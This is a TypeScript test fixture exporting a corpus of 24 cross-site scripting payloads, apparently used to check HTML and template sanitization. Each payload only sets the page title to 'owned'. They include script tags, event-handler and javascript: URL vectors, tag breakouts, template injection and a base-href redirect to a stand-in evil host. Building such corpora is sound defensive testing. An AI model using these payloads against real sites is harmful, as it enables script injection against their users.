// Texts that become programs wherever somebody forgets that they are texts. Each that runs sets the
// title of its page.
const run = `document.title='owned'`

export const xssCorpus: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `"><script>${run}</script>`,
  `'"><img src=x onerror=${run}>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<a href="javascript:${run}">click</a>`,
  `javascript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `<math><mtext><script>${run}</script>`,
  `<details open ontoggle="${run}">`,
  `<body onload="${run}">`,
  `<object data="javascript:${run}">`,
  `<form action="javascript:${run}"><input type=submit autofocus>`,
  `\${${run}}`,
  `{{constructor.constructor("${run}")()}}`,
  `[click](javascript:${run})`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
]
